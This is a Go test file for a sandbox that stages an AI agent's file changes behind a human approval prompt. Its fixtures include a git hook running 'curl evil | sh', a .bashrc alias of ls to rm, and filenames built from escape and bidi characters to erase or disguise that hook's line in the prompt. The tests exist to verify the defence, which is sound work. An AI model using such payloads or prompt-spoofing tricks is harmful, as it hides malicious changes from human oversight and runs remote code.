//go:build linux

package main

import (
	"github.com/jukebox-os/jukebox/engine"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"github.com/jukebox-os/jukebox/sandbox"
	"github.com/jukebox-os/jukebox/tapefmt"
)

// unsafeForTerminal returns the first character of s that could act on a
// terminal or hide text: a control character other than newline (ESC,
// CR, C1 controls), a bidi override or isolate, or a zero-width or other
// format character.
func unsafeForTerminal(s string) (rune, bool) {
	for _, r := range s {
		switch {
		case r == '\n':
		case r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f):
			return r, true
		case unicode.Is(unicode.Cf, r), unicode.Is(unicode.Other_Default_Ignorable_Code_Point, r):
			return r, true
		}
	}
	return 0, false
}

// TestAskPromptSpoofing: an agent names files so that, printed raw, the
// approval prompt's line for .git/hooks/pre-commit is erased (cursor up,
// erase line, carriage return) or turned round by a bidi override. The
// prompt and booth diff print every name quoted, with no ESC, control or
// bidi character, and name the hook with its flag.
func TestAskPromptSpoofing(t *testing.T) {
	requireBooth(t)
	ws := t.TempDir()
	tx, err := sandbox.Begin(ws, sandbox.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer tx.Rollback(t.Context())
	tx.Release() // as a run that ended with it kept
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(tx.Files().MkdirAll(".git/hooks", 0o755))
	must(tx.Files().WriteFile(".git/hooks/pre-commit", []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755))
	spoofs := []string{
		"z\x1b[1A\x1b[2K\rREADME.md (12 bytes)", // cursor up, erase the hook's line
		"zz\x1b[2K\r  write notes.txt",          // erase this line, print a decoy
		"zzz\u202e\u2066txt.kooh-erp\u2069",     // bidi override and isolate
		"zzzz\u200b\ufeff\u00ad\u180e",          // zero-width and invisible characters
		"zzzzz\x9b2K\x07\x08",                   // C1 CSI, bell, backspace
		"zzzzzz\xff\xfe",                        // not UTF-8
		"caf\u00e9 \"quoted\" back\\slash",      // printable, but not plain
	}
	for _, name := range spoofs {
		must(tx.Files().WriteFile(name, []byte("x"), 0o644))
	}
	must(tx.Files().MkdirAll(".github/workflows", 0o755))
	must(tx.Files().WriteFile(".github/workflows/ci.yml", []byte("on: push"), 0o644))
	must(tx.Files().WriteFile(".bashrc", []byte("alias ls=rm"), 0o644))
	must(tx.Files().WriteFile("run.sh", []byte("#!/bin/sh"), 0o755))
	cs, err := tx.Diff()
	must(err)

	prompt := askText(cs, nil, []engine.OutboxResult{{Server: "slack", Tool: "post_message", Args: []byte(`{"text":"hi\u001b[2J"}`), Approve: true}}, nil, "K7QD-X3MA")
	if !strings.Contains(prompt, "1 MCP tool calls held until the commit") || !strings.Contains(prompt, "post_message") ||
		!strings.Contains(prompt, "asks for your approval") || strings.Contains(prompt, "\x1b") {
		t.Errorf("the held calls in the question:\n%q", prompt)
	}
	diff, _, err := runBoothCLI(t, "booth", "diff", "-C", ws)
	must(err)
	for name, text := range map[string]string{"prompt": prompt, "booth diff": diff} {
		if r, bad := unsafeForTerminal(text); bad {
			t.Errorf("%s holds %U:\n%s", name, r, text)
		}
		var hook string
		for _, line := range strings.Split(text, "\n") {
			if strings.Contains(line, ".git/hooks/pre-commit") {
				hook = line
			}
		}
		if !strings.HasPrefix(hook, "! write .git/hooks/pre-commit ") {
			t.Errorf("%s: the hook's line is %q, want it marked with !:\n%s", name, hook, text)
		}
		for _, want := range []string{"sensitive: git hook: git runs it; executable", "CI workflow", "shell start-up file",
			`"z\x1b[1A\x1b[2K\rREADME.md (12 bytes)"`, `\u202e`, `\u2066`, `\u200b`, `\ufeff`, `\x9b`, `\xff\xfe`,
			`"caf` + "\u00e9" + ` \"quoted\" back\\slash"`, "sensitive (marked !)"} {
			if !strings.Contains(text, want) {
				t.Errorf("%s lacks %q:\n%s", name, want, text)
			}
		}
	}
	if !strings.Contains(prompt, "touch sensitive paths (marked !)") || !strings.HasSuffix(prompt, "type the code K7QD-X3MA (n rolls back; anything else keeps them staged): ") {
		t.Errorf("prompt:\n%s", prompt)
	}
	// The heading counts each operation.
	if !strings.Contains(prompt, "The agent staged 15 changes: 11 writes, 4 mkdirs; 7 sensitive (marked !)") {
		t.Errorf("prompt heading:\n%s", prompt)
	}
}

// TestRecordBoothRefused runs `jukebox record --booth --commit never
// --keep` on an agent that makes a venv-like absolute symlink, `ln -s ..
// up`, a fifo and a hard link beside a write, and exits 3. Before, the
// whole change set was discarded ("0 changes", exit 1); now every change
// is listed and taped, the fifo and the hard link are REFUSED with their
// reasons, the transaction is kept open, and jukebox exits 8 while still
// printing the agent's own exit. Committing it then applies the rest.
func TestRecordBoothRefused(t *testing.T) {
	requireBooth(t)
	ws := t.TempDir()
	t.Chdir(ws)
	tape := filepath.Join(t.TempDir(), "refused.jbx")
	script := "echo keep > keep.txt; mkdir -p .venv/bin; ln -s /usr/bin/python3 .venv/bin/python; ln -s .. up; " +
		"mkfifo pipe; echo a > a.txt; ln a.txt a-link; exit 3"
	_, errs := wantCode(t, ExitRefused, "record", "-o", tape, "--booth", "--booth-mode", "copy", "--commit", "never", "--keep",
		"--", "sh", "-c", script)
	for _, want := range []string{"symlink .venv/bin/python -> /usr/bin/python3", "symlink up -> ..", "write keep.txt",
		"REFUSED fifo pipe: ", "REFUSED hard-link a-link: ", "3 refused", "kept open: 3 entries the booth cannot commit were refused",
		"agent exit 3", "exit 8"} {
		if !strings.Contains(errs, want) {
			t.Errorf("stderr lacks %q:\n%s", want, errs)
		}
	}
	if _, err := os.Lstat(filepath.Join(ws, "keep.txt")); err == nil {
		t.Fatal("keep.txt reached the workspace before a commit")
	}
	tp, err := tapefmt.Open(tape)
	if err != nil {
		t.Fatal(err)
	}
	changes := map[string]tapefmt.FileOp{}
	for f, err := range tp.Frames() {
		if err != nil {
			t.Fatal(err)
		}
		if p, err := f.Decode(); err == nil {
			if fc, ok := p.(*tapefmt.FileChange); ok {
				changes[fc.Path] = fc.Op
			}
		}
	}
	tp.Close()
	for p, op := range map[string]tapefmt.FileOp{"keep.txt": tapefmt.OpWrite, ".venv/bin/python": tapefmt.OpSymlink,
		"up": tapefmt.OpSymlink, "pipe": tapefmt.OpRefused, "a-link": tapefmt.OpRefused} {
		if changes[p] != op {
			t.Errorf("tape: %s is %q, want %q (all: %v)", p, changes[p], op, changes)
		}
	}
	out, _ := wantCode(t, ExitOK, "booth", "diff", "-C", ws)
	if !strings.Contains(out, "REFUSED fifo pipe") || !strings.Contains(out, "symlink up -> ..") {
		t.Errorf("booth diff:\n%s", out)
	}
	wantCode(t, ExitOK, "booth", "commit", "-C", ws)
	if got, _ := os.Readlink(filepath.Join(ws, "up")); got != ".." {
		t.Errorf("committed up -> %q", got)
	}
	if got, _ := os.Readlink(filepath.Join(ws, ".venv/bin/python")); got != "/usr/bin/python3" {
		t.Errorf("committed .venv/bin/python -> %q", got)
	}
	if _, err := os.Lstat(filepath.Join(ws, "pipe")); err == nil {
		t.Error("the refused fifo was committed")
	}
}

// TestRecordBoothRefusedBadTape: a tape that does not read back (the
// agent deleted it) is exit 3, ahead of the booth's exit 8.
func TestRecordBoothRefusedBadTape(t *testing.T) {
	requireBooth(t)
	t.Chdir(t.TempDir())
	tape := filepath.Join(t.TempDir(), "gone.jbx")
	_, errs := wantCode(t, ExitBadTape, "record", "-o", tape, "--booth", "--booth-mode", "copy", "--commit", "never",
		"--", "sh", "-c", "mkfifo pipe; rm -f "+tape)
	if !strings.Contains(errs, "REFUSED fifo pipe") {
		t.Errorf("stderr:\n%s", errs)
	}
}
